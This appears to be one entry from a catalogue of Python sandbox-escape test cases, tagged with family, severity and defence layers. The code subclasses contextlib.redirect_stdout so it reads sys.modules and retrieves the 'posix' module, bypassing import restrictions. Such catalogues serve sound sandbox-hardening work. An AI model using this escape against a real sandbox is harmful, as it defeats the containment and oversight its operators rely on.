# technique: a redirection of a stream reads and sets any attribute of sys
# family: A
# severity: H
# layers: policy, seccomp
def trick():
    import contextlib

    class Redirect(contextlib.redirect_stdout):
        _stream = "modules"
    redirect = Redirect(None)
    redirect.__enter__()
    found = redirect._old_targets[0]
    redirect.__exit__(None, None, None)
    return found["posix"]

start_process(trick)
